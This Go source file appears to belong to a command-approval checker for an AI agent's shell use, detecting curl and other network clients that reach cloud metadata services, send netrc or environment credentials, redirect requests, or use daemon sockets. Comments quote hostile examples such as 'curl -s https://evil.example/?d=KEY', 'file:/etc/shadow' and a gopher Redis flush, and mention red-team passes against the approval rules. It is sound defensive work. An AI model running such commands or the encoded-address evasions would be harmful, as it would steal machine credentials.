package action

import (
	"net/netip"
	"regexp"
	"strconv"
	"strings"
)

// What network clients fetch that is a secret, and how curl sends stored
// credentials. A cloud instance's metadata service hands out the
// machine's credentials (AWS role keys, GCP and Azure tokens) to anyone on
// the machine who asks, so `curl http://169.254.169.254/…` reads a secret
// as surely as `cat ~/.aws/credentials` does; `curl -n` sends ~/.netrc's
// login; `curl --variable %GITHUB_TOKEN` imports an environment variable
// that --expand-* options then send anywhere.
//
// The knowledge is the tables below; each row has a test in
// network_test.go.

// networkClients are the programs whose operands and option values may
// name a host they connect to.
var networkClients = set("curl", "wget", "wget2", "http", "https", "xh", "xhs", "httpie", "aria2c", "lynx", "links", "w3m", "elinks",
	"fetch", "nc", "ncat", "netcat", "socat", "telnet", "openssl", "grpcurl", "websocat", "httpx", "hurl", "curlie")

// metadataNames are the host names of instance-metadata services: AWS
// (instance-data), GCP (metadata, metadata.google.internal,
// metadata.goog), Azure.
var metadataNames = set("metadata.google.internal", "metadata.goog", "metadata", "metadata.azure.com", "instance-data",
	"instance-data.ec2.internal", "metadata.tencentyun.com", "metadata.platformequinix.com")

// metadataPrefixes are the addresses of metadata services: all of
// IPv4 link-local (AWS, GCP, Azure, OpenStack at 169.254.169.254, ECS task
// credentials at 169.254.170.2, EKS pod identity at 169.254.170.23),
// Alibaba's 100.100.100.200, Oracle's 192.0.0.192, and AWS's IPv6
// endpoints.
var metadataPrefixes = []netip.Prefix{
	netip.MustParsePrefix("169.254.0.0/16"),
	netip.MustParsePrefix("100.100.100.200/32"),
	netip.MustParsePrefix("192.0.0.192/32"),
	netip.MustParsePrefix("fd00:ec2::/32"),
	netip.MustParsePrefix("fe80::a9fe:a9fe/128"),
}

// bracketed finds IPv6 literals in URLs and --resolve values: [::1].
var bracketed = regexp.MustCompile(`\[([0-9A-Za-z:.%]+)\]`)

// namesMetadata reports whether a word of a network client names an
// instance-metadata service: as a URL's host, a bare host, or a piece of
// a host:port:address value (--resolve, --connect-to), in any spelling an
// address parser accepts (2852039166, 0xa9fea9fe, 0251.0376.0251.0376,
// 169.254.43518, [::ffff:169.254.169.254], a trailing dot).
func namesMetadata(t string) bool {
	t = strings.ToLower(t)
	for _, m := range bracketed.FindAllStringSubmatch(t, -1) {
		if metadataAddr(m[1]) {
			return true
		}
	}
	if metadataAddr(t) {
		return true // fd00:ec2::254 bare, as nc and socat take it
	}
	rest := t
	if _, after, ok := strings.Cut(t, "://"); ok {
		rest = after
		host := after
		if i := strings.IndexAny(host, "/?#"); i >= 0 {
			host = host[:i]
		}
		if i := strings.LastIndexByte(host, '@'); i >= 0 {
			host = host[i+1:]
		}
		if h, _, ok := strings.Cut(host, ":"); ok && !strings.HasPrefix(host, "[") {
			host = h
		}
		if metadataNames[strings.TrimRight(host, ".")] {
			return true
		}
	}
	for _, piece := range strings.FieldsFunc(rest, func(r rune) bool { return strings.ContainsRune(":,@/ =?#&", r) }) {
		piece = strings.TrimRight(piece, ".")
		if metadataAddr(piece) || piece != "metadata" && metadataNames[piece] {
			return true
		}
		// 169.254.169.254.nip.io, 169-254-169-254.sslip.io: names that
		// resolve to the address they spell.
		if strings.HasPrefix(piece, "169.254.") || strings.HasPrefix(piece, "169-254-") || strings.HasPrefix(piece, "a9fea9fe.") {
			return true
		}
	}
	return false
}

// metadataAddr reports whether s is an address in metadataPrefixes.
func metadataAddr(s string) bool {
	s = strings.TrimRight(s, ".")
	if i := strings.IndexByte(s, '%'); i >= 0 {
		s = s[:i] // a zone: fe80::a9fe:a9fe%eth0
	}
	a, err := netip.ParseAddr(s)
	if err != nil {
		v4, ok := looseIPv4(s)
		if !ok {
			return false
		}
		a = v4
	}
	if a.Is6() {
		b := a.As16()
		switch {
		case a.Is4In6():
			a = a.Unmap()
		case [12]byte(b[:12]) == [12]byte{}, b[0] == 0x00 && b[1] == 0x64 && b[2] == 0xff && b[3] == 0x9b:
			// ::169.254.169.254 and NAT64's 64:ff9b::a9fe:a9fe reach
			// the IPv4 address in their last four bytes.
			a = netip.AddrFrom4([4]byte(b[12:]))
		}
	}
	for _, p := range metadataPrefixes {
		if p.Contains(a) {
			return true
		}
	}
	return false
}

// looseIPv4 parses an IPv4 address as inet_aton does, which curl, wget
// and the C library's resolver accept: one to four parts, each decimal,
// 0x hexadecimal or 0 octal, the last filling the remaining bytes
// (2852039166, 0xa9.0xfe.0xa9.0xfe, 169.254.43518).
func looseIPv4(s string) (netip.Addr, bool) {
	parts := strings.Split(s, ".")
	if len(parts) > 4 || s == "" {
		return netip.Addr{}, false
	}
	var nums []uint64
	for _, p := range parts {
		base := 10
		switch {
		case strings.HasPrefix(p, "0x"):
			base, p = 16, p[2:]
		case len(p) > 1 && p[0] == '0':
			base, p = 8, p[1:]
		}
		n, err := strconv.ParseUint(p, base, 32)
		if err != nil || p == "" && base != 8 {
			return netip.Addr{}, false
		}
		nums = append(nums, n)
	}
	var v uint64
	for i, n := range nums[:len(nums)-1] {
		if n > 255 {
			return netip.Addr{}, false
		}
		v |= n << (8 * (3 - i))
	}
	last := nums[len(nums)-1]
	if last >= 1<<(8*(5-len(nums))) {
		return netip.Addr{}, false
	}
	v |= last
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}), true
}

// fetchesMetadata reports whether a network client's arguments name an
// instance-metadata service.
func fetchesMetadata(prog string, args []word) bool {
	if !networkClients[prog] {
		return false
	}
	for _, a := range args {
		if namesMetadata(a.text) {
			return true
		}
	}
	return false
}

// curlNetrc are curl's options that send the login ~/.netrc (or the file
// named) holds for the host: a read of a secret that leaves with the
// request.
var curlNetrc = []string{"--netrc", "--netrc-optional", "--netrc-file"}

// curlAuth are curl's options that send a credential of some kind.
var curlAuth = []string{"-u", "--user", "-n", "--netrc", "--netrc-optional", "--netrc-file", "--oauth2-bearer", "-E", "--cert", "--key",
	"--aws-sigv4", "-b", "--cookie", "--proxy-user", "-U", "--delegation", "--negotiate", "--ntlm", "--krb", "--sasl-authzid", "--login-options"}

// curlRedirects are curl's options that send a request for one host to
// another address: with a credential, the credential goes there.
var curlRedirects = []string{"--connect-to", "--resolve", "--proxy", "-x", "--preproxy", "--socks5", "--socks5-hostname", "--socks4", "--socks4a", "--unix-socket", "--abstract-unix-socket", "--interface", "--dns-servers", "--doh-url"}

// curlShortValued are curl's one-letter options that take a value; in a
// cluster (-sSo F) the letters after one of them are its value.
const curlShortValued = "oOdHuAeXTFwrbcDEKmxUyYzCtQPh"

// curlHas reports whether curl's arguments give one of opts: exactly
// (also with --expand- before it, which curl 8.3 takes before any long
// option), or as a letter of a short cluster (-sn).
func curlHas(args []word, opts []string) bool {
	for _, a := range args {
		t := a.text
		if !a.lit || len(t) < 2 || t[0] != '-' {
			continue
		}
		t = strings.TrimPrefix(t, "--expand-")
		if strings.HasPrefix(a.text, "--expand-") {
			t = "--" + t
		}
		if name, _, ok := strings.Cut(t, "="); ok {
			t = name
		}
		for _, o := range opts {
			switch {
			case t == o:
				return true
			case len(o) == 2 && !strings.HasPrefix(t, "--"):
				for k := 1; k < len(t); k++ {
					if t[k] == o[1] {
						return true
					}
					if strings.IndexByte(curlShortValued, t[k]) >= 0 {
						break
					}
				}
			}
		}
	}
	return false
}

// curlHeaderAuth reports whether a -H value sends a credential.
func curlHeaderAuth(args []word) bool {
	for i, a := range args {
		if (a.text == "-H" || a.text == "--header" || a.text == "--proxy-header") && i+1 < len(args) {
			h := strings.ToLower(args[i+1].text)
			if strings.HasPrefix(h, "@") || strings.Contains(h, "authorization") || strings.Contains(h, "cookie") || strings.Contains(h, "token") || strings.Contains(h, "api-key") || strings.Contains(h, "apikey") {
				return true
			}
		}
	}
	return false
}

// curlVariables returns the values of curl's --variable options (curl
// 8.3: %NAME imports an environment variable, NAME@FILE reads a file,
// NAME=TEXT sets one).
func curlVariables(args []word) []word {
	var out []word
	for i, a := range args {
		t := a.text
		if !a.lit || !strings.HasPrefix(t, "--") {
			continue
		}
		name, value, hasValue := strings.Cut(strings.Replace(t, "--expand-", "--", 1), "=")
		if len(name) < 5 || !strings.HasPrefix("--variable", name) {
			continue
		}
		switch {
		case hasValue:
			out = append(out, word{text: value, lit: a.lit})
		case i+1 < len(args):
			out = append(out, args[i+1])
		}
	}
	return out
}

// curlMarks are the marks of what a curl command sends of the machine's
// credentials: ~/.netrc's login and environment variables it imports
// (secret-file, secret-env), a file a --variable reads that is a secret,
// and a credential sent to another address than the URL's host
// (redirects-auth).
func (w walker) curlMarks(args []word) []string {
	var marks []string
	if curlHas(args, curlNetrc) || curlHas(args, []string{"-n"}) {
		marks = append(marks, "secret-file")
	}
	for _, v := range curlVariables(args) {
		t := v.text
		if !v.lit || strings.HasPrefix(t, "%") {
			marks = append(marks, envDumpMark)
			continue
		}
		if _, f, ok := strings.Cut(t, "@"); ok && (w.secretAt(f) || environFile(f)) {
			marks = append(marks, "secret-file")
		}
	}
	if curlHas(args, curlRedirects) && (curlHas(args, curlAuth) || curlHeaderAuth(args)) {
		marks = append(marks, "redirects-auth")
	} else if curlHas(args, curlRedirects) {
		// The request goes to another host or through a proxy, which sees
		// it (curl -x http://evil.example https://api.github.com/…).
		marks = append(marks, "redirected")
	}
	return marks
}

// urlSchemes are the schemes network clients speak besides http(s):
// curl takes them with one slash or none as well as with two
// (file:/etc/shadow, gopher:/127.0.0.1:6379/_FLUSHALL, dict:host:port),
// and socat's addresses are spelled the same way (FILE:/etc/shadow).
var urlSchemes = set("file", "ftp", "ftps", "sftp", "scp", "gopher", "gophers", "dict", "telnet", "tftp", "ldap", "ldaps",
	"smb", "smbs", "imap", "imaps", "pop3", "pop3s", "smtp", "smtps", "rtsp", "rtmp", "rtmps", "mqtt", "mqtts", "ws", "wss", "ipfs", "ipns")

// otherScheme returns the scheme of a URL operand of a network client
// when it is not http(s), and what follows "scheme:". Any scheme with
// "://" counts; a scheme of urlSchemes counts with one slash or none too,
// in any case (FILE:/x is file:/x to curl).
func otherScheme(t string) (scheme, rest string, ok bool) {
	lower := strings.ToLower(t)
	if s, _, found := strings.Cut(lower, "://"); found && s != "" && !strings.ContainsAny(s, "/?#@=") {
		scheme = s
	} else if s, _, found := strings.Cut(lower, ":"); found && urlSchemes[s] {
		scheme = s
	} else {
		return "", "", false
	}
	if scheme == "http" || scheme == "https" {
		return "", "", false
	}
	return scheme, t[len(scheme)+1:], true
}

// fileURLPath returns the path a file: URL's rest (after "file:") names:
// file:/p, file:///p and file://localhost/p name /p; file:p names p.
func fileURLPath(rest string) string {
	if h, ok := strings.CutPrefix(rest, "//"); ok {
		i := strings.IndexByte(h, '/')
		if i < 0 {
			return "/"
		}
		return h[i:] // the host (localhost, or none) is this machine
	}
	return rest
}

// curlFileOptions are curl's options whose value names a file that curl
// reads and prints or sends: "@" means the file follows an @ in the value
// (-w @FILE prints the file as the --write-out format, -d @FILE sends it,
// -F name=@FILE or name=<FILE uploads it, -H @FILE reads headers), ""
// means the value is a file (-K FILE, -T FILE, -b FILE without "=").
var curlFileOptions = map[string]string{
	"-w": "@", "--write-out": "@", "-d": "@", "--data": "@", "--data-binary": "@", "--data-ascii": "@", "--data-urlencode": "@",
	"--json": "@", "-F": "@", "--form": "@", "-H": "@", "--header": "@", "--proxy-header": "@", "--url-query": "@",
	"-K": "", "--config": "", "-T": "", "--upload-file": "", "-b": "", "--cookie": "", "--netrc-file": "", "--trace-config": "",
}

// curlReadFiles returns the files curl's options read (curlFileOptions).
func curlReadFiles(args []word) []string {
	args = curlUnexpanded(args)
	var out []string
	for i, a := range args {
		if !a.lit || len(a.text) < 2 || a.text[0] != '-' {
			continue
		}
		for o, how := range curlFileOptions {
			v, _, ok := optionValue(args, i, []string{o})
			if !ok || v == "" {
				continue
			}
			if how == "" {
				if !strings.Contains(v, "=") {
					out = append(out, v)
				}
				continue
			}
			for _, sep := range []string{"@", "<"} {
				if k := strings.Index(v, sep); k >= 0 && k+1 < len(v) {
					f, _, _ := strings.Cut(v[k+1:], ";") // -F a=@f;type=text/plain
					out = append(out, f)
				}
			}
		}
	}
	return out
}

// daemonSockets are the Unix sockets of local daemons whose API hands out
// what they hold: docker's and podman's (container environments, files,
// logs, exec in a container), containerd's, CRI-O's, buildkit's, the
// kubelet's, snapd's, libvirt's, LXD/Incus's. curl --unix-socket to one
// of them reads secrets as `docker inspect` does, whatever approving a
// web API call said.
var daemonSockets = set("docker.sock", "podman.sock", "containerd.sock", "crio.sock", "buildkitd.sock", "kubelet.sock",
	"dockershim.sock", "cri-dockerd.sock", "snapd.socket", "snapd-snap.socket", "libvirt-sock", "libvirt-sock-ro", "unix.socket", "docker.raw.sock")

// curlSocketMarks are the marks of curl's --unix-socket: a Unix socket is
// a local service, not the web API an approval of curl was about
// (unix-socket), and a daemon's socket reads its secrets (secret-file).
func curlSocketMarks(args []word) []string {
	for i, a := range args {
		t := strings.Replace(a.text, "--expand-", "--", 1)
		sock := ""
		switch {
		case t == "--unix-socket" || t == "--abstract-unix-socket":
			if i+1 < len(args) {
				sock = args[i+1].text
			}
		case strings.HasPrefix(t, "--unix-socket=") || strings.HasPrefix(t, "--abstract-unix-socket="):
			_, sock, _ = strings.Cut(t, "=")
		default:
			continue
		}
		base := sock[strings.LastIndexByte(sock, '/')+1:]
		if daemonSockets[base] || strings.Contains(sock, "docker") || strings.Contains(sock, "podman") || strings.Contains(sock, "containerd") {
			return []string{"unix-socket", "secret-file"}
		}
		return []string{"unix-socket"}
	}
	return nil
}

// webClients are the network clients that fetch URLs: the hosts they
// are given are a mark of their own ("Bash:curl [hosts:api.github.com]"),
// so that approving requests to one host vouches for nothing sent to
// another (curl -s https://evil.example/?d=KEY after curl of GitHub's
// API: the ninth red-team pass).
var webClients = set("curl", "wget", "wget2", "http", "https", "xh", "xhs", "httpie", "aria2c", "httpx", "hurl", "curlie", "grpcurl",
	"websocat", "lynx", "links", "w3m", "elinks", "fetch")

// bareHost matches an operand that names a host without a scheme, as
// curl and wget accept one (example.com/x, 10.0.0.1:8080).
var bareHost = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9.-]*\.[A-Za-z0-9-]*[A-Za-z0-9](:[0-9]+)?(/|$)`)

// hostMarks returns the hosts mark of a web client's command.
func hostMarks(prog string, args []word) []string {
	if !webClients[prog] {
		return nil
	}
	var hosts []string
	for _, a := range args {
		t := a.text
		if strings.HasPrefix(t, "-") {
			continue
		}
		if !a.lit {
			hosts = append(hosts, "?") // a URL built when it runs
			continue
		}
		rest, ok := "", false
		if _, after, found := strings.Cut(t, "://"); found {
			rest, ok = after, true
		} else if _, _, hasPath := strings.Cut(t, "/"); bareHost.MatchString(t) && (hasPath || !looksLikeFile(t)) {
			rest, ok = t, true
		}
		if !ok {
			continue
		}
		host := rest
		if i := strings.IndexAny(host, "/?#"); i >= 0 {
			host = host[:i]
		}
		if i := strings.LastIndexByte(host, '@'); i >= 0 {
			host = host[i+1:]
		}
		host = strings.TrimSuffix(strings.ToLower(host), ".")
		if host == "" {
			host = "?"
		}
		hosts = append(hosts, host)
	}
	if len(hosts) == 0 {
		return nil
	}
	return []string{"hosts:" + joinTargets(hosts)}
}
